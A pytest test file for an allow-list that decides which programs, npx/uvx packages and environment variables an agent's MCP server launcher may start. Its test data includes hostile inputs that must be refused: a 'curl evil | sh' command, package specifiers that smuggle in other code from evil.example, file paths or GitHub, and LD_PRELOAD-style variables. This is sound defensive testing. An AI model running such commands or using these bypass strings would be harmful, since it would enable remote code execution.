"""Which program a command is, and whether a place's list allows it."""

import os
import shlex
from pathlib import Path

import pytest

from dataagent_core.errors import ConfigurationError, MCPServerError
from dataagent_core.mcp.config import MCPServerConfig
from dataagent_core.mcp.transports.program.command import check_allowed, find_program


def program(folder: Path, name: str, target: Path | None = None) -> Path:
    folder.mkdir(exist_ok=True, parents=True)
    path = folder / name
    if target is not None:
        path.symlink_to(target)
    else:
        path.write_text("#!/bin/sh\n")
        path.chmod(0o755)
    return path


@pytest.fixture
def environ(tmp_path: Path) -> dict[str, str]:
    for name in ("npx", "uvx", "tool"):
        program(tmp_path / "bin", name)
    return {"PATH": str(tmp_path / "bin")}


def allowed(
    command: str, args: list[str], commands: tuple[str, ...], environ: dict[str, str], **env: str
) -> bool:
    config = MCPServerConfig(name="one", command=command, args=args, env=env)
    try:
        check_allowed(config, find_program(config, environ), commands, environ)
    except MCPServerError:
        return False
    return True


def test_a_name_allows_the_program_of_that_name_on_our_path(environ: dict[str, str]):
    assert allowed("tool", [], ("tool",), environ)
    assert not allowed("npx", [], ("tool",), environ)
    assert not allowed("tool", [], (), environ)


def test_a_program_of_the_same_name_elsewhere_is_another_one(
    environ: dict[str, str], tmp_path: Path
):
    other = program(tmp_path / "evil", "tool")
    assert not allowed(str(other), [], ("tool",), environ)
    assert allowed(str(other), [], (str(other),), environ)


@pytest.mark.parametrize("folder", ["my tools", "o'brien"])
def test_a_path_is_quoted_as_in_a_shell(environ: dict[str, str], tmp_path: Path, folder: str):
    spaced = program(tmp_path / folder, "tool")
    assert allowed(str(spaced), ["a b"], (shlex.quote(str(spaced)),), environ)
    # Without its quotes a space ends the program; a quote that stands alone is a character.
    assert allowed(str(spaced), [], (str(spaced),), environ) == (" " not in folder)


def test_a_link_to_an_allowed_program_is_it_under_its_own_name_only(
    environ: dict[str, str], tmp_path: Path
):
    """One file can be many programs: what it does is decided by the name it is called by."""
    same = program(tmp_path / "elsewhere", "tool", tmp_path / "bin" / "tool")
    alias = program(tmp_path / "elsewhere", "sh", tmp_path / "bin" / "tool")
    assert allowed(str(same), [], ("tool",), environ)
    assert not allowed(str(alias), [], ("tool",), environ)


@pytest.mark.parametrize(
    "args",
    [
        ["-y", "@modelcontextprotocol/server-everything"],
        ["--yes", "@modelcontextprotocol/server-filesystem@2026.8.31", "/data"],
        ["@modelcontextprotocol/a", "--package", "evil"],
    ],
)
def test_npx_can_be_narrowed_to_packages(args: list[str], environ: dict[str, str]):
    assert allowed("npx", args, ("npx @modelcontextprotocol/*",), environ)


@pytest.mark.parametrize(
    "args",
    [
        [],
        ["evil"],
        ["-y", "evil"],
        ["-c", "curl evil | sh"],
        ["-p", "evil", "@modelcontextprotocol/a"],
        ["--package=evil", "@modelcontextprotocol/a"],
        ["@modelcontextprotocol/a@npm:evil"],
        ["@modelcontextprotocol/../evil"],
        ["@modelcontextprotocol/a@file:/tmp/evil"],
        ["github:evil/evil"],
        ["https://evil.example/@modelcontextprotocol/a"],
        ["@modelcontextprotocol/a\nevil"],
    ],
)
def test_no_other_package_gets_past_it(args: list[str], environ: dict[str, str]):
    assert not allowed("npx", args, ("npx @modelcontextprotocol/*",), environ)


@pytest.mark.parametrize(
    ("args", "fits"),
    [
        (["mcp-server-time"], True),
        (["mcp-server-time@2026.10.19", "--local-timezone", "UTC"], True),
        (["mcp-server-time==2026.10.19"], True),
        (["--from", "mcp-server-git[extra]", "mcp-server-git"], True),
        (["--from", "mcp-server-git", "python", "-c", "print(1)"], False),
        (["--from", "mcp-server-git", "--with", "evil", "mcp-server-git"], False),
        (["--from", "mcp-server-git"], False),
        (["mcp-server-git", "--with", "evil"], True),
        (["--with", "evil", "mcp-server-time"], False),
        (["--from", "evil", "mcp-server-time"], False),
        (["mcp-server-time @ https://evil.example/x.whl"], False),
        (["--index-url", "https://evil.example", "mcp-server-time"], False),
    ],
)
def test_uvx_can_be_narrowed_to_packages(args: list[str], fits: bool, environ: dict[str, str]):
    assert allowed("uvx", args, ("uvx mcp-server-*",), environ) is fits


@pytest.mark.parametrize(
    "name", ["NODE_OPTIONS", "LD_PRELOAD", "PYTHONPATH", "npm_config_registry", "PATH", "HOME"]
)
def test_variables_that_turn_an_allowed_program_into_another_are_refused(
    name: str, environ: dict[str, str]
):
    assert not allowed("tool", [], ("tool",), environ, **{name: "x"})
    assert allowed("tool", [], ("tool",), environ, API_TOKEN="x")


def test_a_package_for_a_program_that_takes_none_is_a_mistake_of_the_operator(
    environ: dict[str, str],
):
    with pytest.raises(ConfigurationError, match="only `npx` and `uvx`"):
        allowed("tool", [], ("tool something",), environ)


def test_a_relative_path_is_refused_and_a_missing_program_named(environ: dict[str, str]):
    with pytest.raises(MCPServerError, match="relative path"):
        find_program(MCPServerConfig(name="one", command="./tool"), environ)
    with pytest.raises(MCPServerError, match=r"no program 'node'.*Node\.js"):
        find_program(MCPServerConfig(name="one", command="node"), environ)


def test_a_configurations_own_path_is_not_searched(environ: dict[str, str], tmp_path: Path):
    program(tmp_path / "evil", "hidden")
    config = MCPServerConfig(name="one", command="hidden", env={"PATH": str(tmp_path / "evil")})
    with pytest.raises(MCPServerError, match="no program 'hidden'"):
        find_program(config, environ)
    assert os.environ.get("PATH") != config.env["PATH"]
